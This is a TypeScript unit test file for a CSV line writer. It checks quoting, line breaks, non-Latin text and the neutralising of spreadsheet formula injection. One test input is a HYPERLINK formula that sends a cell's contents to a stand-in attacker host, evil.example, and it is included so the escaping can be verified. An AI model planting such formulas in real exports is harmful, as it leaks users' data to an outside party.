import { CsvValue, csvLine } from './fileChunks';

describe('csvLine', () => {
  it.each<[string, CsvValue[], string]>([
    ['plain text', ['a', 'b c'], 'a,b c'],
    ['numbers', [1, 0, -2.5], '1,0,-2.5'],
    ['no value', ['a', undefined, ''], 'a,,'],
    ['a comma', ['a,b', 'c'], '"a,b",c'],
    ['quotes', ['the "best"'], '"the ""best"""'],
    ['lines', ['a\nb', 'c\r\nd'], '"a\nb","c\r\nd"'],
    ['letters of all languages', ['Größe', '成熟度'], 'Größe,成熟度'],
    ['a formula', ['=1+1'], "'=1+1"],
    ['a sum', ['+1'], "'+1"],
    ['a difference', ['-1'], "'-1"],
    ['a function', ['@SUM(A1)'], "'@SUM(A1)"],
    ['a tab', ['\t=1'], "'\t=1"],
    ['a carriage return', ['\r=1'], `"'\r=1"`],
    ['a line feed', ['\n=1'], `"'\n=1"`],
    [
      'a link that takes data with it',
      ['=HYPERLINK("https://evil.example?"&A1,"x")'],
      `"'=HYPERLINK(""https://evil.example?""&A1,""x"")"`,
    ],
    ['a formula that is none', ['a=1', 'b-c'], 'a=1,b-c'],
  ])('writes %s', (_, values, expected) => {
    expect(csvLine(values)).toBe(`${expected}\r\n`);
  });
});
